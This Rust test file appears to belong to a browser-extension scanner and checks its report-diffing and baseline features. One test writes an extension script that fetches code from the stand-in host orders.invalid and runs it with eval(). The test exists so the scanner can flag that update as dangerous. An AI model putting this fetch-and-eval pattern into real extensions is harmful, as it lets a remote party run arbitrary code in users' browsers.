//! `diff` and `--baseline` as a user or a script meets them.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::commands::crxhound;

fn run(home: &Path, arguments: &[&str]) -> (i32, String, String) {
    let output = crxhound(home).args(arguments).output().unwrap();
    (output.status.code().unwrap(), String::from_utf8(output.stdout).unwrap(), String::from_utf8(output.stderr).unwrap())
}

fn extension(letter: &str, version: &str, verdict: &str) -> Value {
    json!({
        "id": letter.repeat(32), "name": format!("Sample {letter}"), "version": version, "browser": "chrome",
        "user_data_dir": "data", "profile": "Default", "verdict": verdict, "content_sha256": "00",
        "permissions": {"api": ["storage"]},
    })
}

fn save(home: &Path, name: &str, extensions: &[Value]) {
    let report = json!({"schema": "crxhound.report/1", "complete": true, "extensions": extensions});
    fs::write(home.join(name), report.to_string()).unwrap();
}

#[test]
fn drift_between_two_reports_is_told_in_words_and_json() {
    let folder = tempfile::tempdir().unwrap();
    let home = folder.path();
    let mut updated = extension("b", "1.1", "review");
    updated["permissions"]["api"] = json!(["storage", "cookies"]);
    save(home, "old.json", &[extension("a", "1.0", "ok"), extension("b", "1.0", "ok")]);
    save(home, "new.json", &[updated, extension("c", "3.0", "suspicious")]);

    let (code, out, err) = run(home, &["diff", "old.json", "new.json", "--format", "json"]);
    assert_eq!(code, 1, "{err}");
    let diff: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(diff["schema"], "crxhound.diff/1");
    assert_eq!(diff["added"][0]["name"], "Sample c");
    assert_eq!(diff["removed"][0]["name"], "Sample a");
    assert_eq!(diff["changed"][0]["gained"]["api"], json!(["cookies"]));
    assert_eq!(diff["changed"][0]["was"]["version"], "1.0");
    assert_eq!(diff["summary"]["verdict"], "suspicious");

    for (lang, word) in [("en", "may now: cookies"), ("de", "darf jetzt: cookies"), ("ko", "새로 얻은 권한: cookies")] {
        let (_, out, _) = run(home, &["diff", "old.json", "new.json", "--lang", lang]);
        assert!(out.contains(word) && out.contains("Sample c 3.0"), "{out}");
    }
    assert_eq!(run(home, &["diff", "old.json", "new.json", "--fail-on", "malicious"]).0, 0);
    assert_eq!(run(home, &["diff", "new.json", "old.json"]).0, 0, "what is gone does no harm");
    let (code, out, _) = run(home, &["diff", "new.json", "new.json"]);
    assert_eq!((code, out.as_str()), (0, "Nothing has changed.\n"));
    assert_eq!(run(home, &["diff", "old.json", "missing.json"]).0, 2);
    assert_eq!(run(home, &["diff", "old.json"]).0, 2);
}

#[test]
fn a_baseline_leaves_only_what_is_new() {
    let folder = tempfile::tempdir().unwrap();
    let home = folder.path();
    let package = |name: &str| {
        fs::create_dir_all(home.join(name)).unwrap();
        let manifest = json!({"manifest_version": 3, "name": name, "version": "1.0"});
        fs::write(home.join(name).join("manifest.json"), manifest.to_string()).unwrap();
    };
    package("first");
    package("second");
    let (code, out, err) = run(home, &["inspect", "first", "--format", "json"]);
    assert!(code < 2, "{err}");
    fs::write(home.join("old.json"), out).unwrap();
    let (code, out, err) = run(home, &["inspect", "first", "second", "--format", "json", "--baseline", "old.json"]);
    assert!(code < 2, "{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["extensions"].as_array().map(Vec::len), Some(1), "{out}");
    assert_eq!(report["extensions"][0]["name"], "second");
    let (code, _, err) = run(home, &["inspect", "first", "--baseline", "missing.json"]);
    assert!(code == 2 && err.contains("missing.json"), "{err}");
}

/// A good extension that turns bad by an update, as in the supply-chain cases of 2024 and 2025.
#[test]
fn an_update_that_turns_bad_is_told_by_what_its_code_newly_does() {
    let folder = tempfile::tempdir().unwrap();
    let home = folder.path();
    let fixture = |name: &str| format!("{}/fixtures/packages/{name}", env!("CARGO_MANIFEST_DIR"));
    let (good, turned) = (fixture("update-good-1.0"), fixture("update-turned-2.0"));
    for (name, path) in [("good.json", &good), ("turned.json", &turned)] {
        let (code, _, err) = run(home, &["inspect", path, "--format", "json", "--output", name, "--fail-on", "never"]);
        assert_eq!(code, 0, "{err}");
    }
    // Between reports, and between the folders themselves: the same answer.
    let from_reports = run(home, &["diff", "good.json", "turned.json", "--format", "json"]);
    let from_folders = run(home, &["diff", &good, &turned, "--format", "json"]);
    for (code, out, err) in [from_reports, from_folders] {
        assert_eq!(code, 1, "{err}");
        let diff: Value = serde_json::from_str(&out).unwrap();
        let change = &diff["changed"][0];
        assert_eq!((&change["was"]["version"], &change["version"]), (&json!("1.0"), &json!("2.0")));
        assert_eq!(change["contacts"], json!(["collector.invalid"]));
        assert_eq!(change["gained"]["api"], json!(["alarms", "cookies"]));
        let flows: Vec<_> = change["findings"].as_array().unwrap().iter().filter_map(|one| one["flow_end"].as_str()).collect();
        assert!(flows.contains(&"sends it to collector.invalid"), "{flows:?}");
    }
    for (lang, words) in [
        ("en", ["Sends login cookies", "sends it to collector.invalid", "new hosts in its code"]),
        ("de", ["Sendet Anmelde-Cookies", "schickt es an collector.invalid", "neue Hosts im Code"]),
        ("ko", ["쿠키", "collector.invalid(으)로 보냄", "코드에 새로 나타난 호스트"]),
    ] {
        let (_, out, _) = run(home, &["diff", &good, &turned, "--lang", lang]);
        let out = out.split_whitespace().collect::<Vec<_>>().join(" ");
        for word in words {
            assert!(out.contains(word), "{lang}, {word}: {out}");
        }
    }
}

#[test]
fn two_version_folders_side_by_side_are_compared_also_where_a_new_one_runs_remote_code() {
    let folder = tempfile::tempdir().unwrap();
    let home = folder.path();
    let write = |version: &str, script: &str| {
        let path = home.join("Extensions/abcdefghijklmnopabcdefghijklmnop").join(version);
        fs::create_dir_all(&path).unwrap();
        let manifest = json!({"manifest_version": 2, "name": "Notes", "version": version.trim_end_matches("_0"),
            "background": {"scripts": ["bg.js"]}, "permissions": ["storage"]});
        fs::write(path.join("manifest.json"), manifest.to_string()).unwrap();
        fs::write(path.join("bg.js"), script).unwrap();
    };
    write("1.0_0", "chrome.storage.local.get('notes', (all) => console.log(all));");
    write("1.1_0", "fetch('https://orders.invalid/a').then((a) => a.text()).then((text) => eval(text));");
    let id = "Extensions/abcdefghijklmnopabcdefghijklmnop";
    let (code, out, err) = run(home, &["diff", &format!("{id}/1.0_0"), &format!("{id}/1.1_0"), "--fail-on", "review"]);
    assert_eq!(code, 1, "{err}{out}");
    let out = out.split_whitespace().collect::<Vec<_>>().join(" ");
    for words in ["version 1.0 became 1.1", "orders.invalid", "runs it as code"] {
        assert!(out.contains(words), "{words}: {out}");
    }
    fs::create_dir(home.join("empty")).unwrap();
    let (code, _, err) = run(home, &["diff", "empty", id]);
    assert!(code == 2 && err.contains("no extension in it"), "{err}");
}
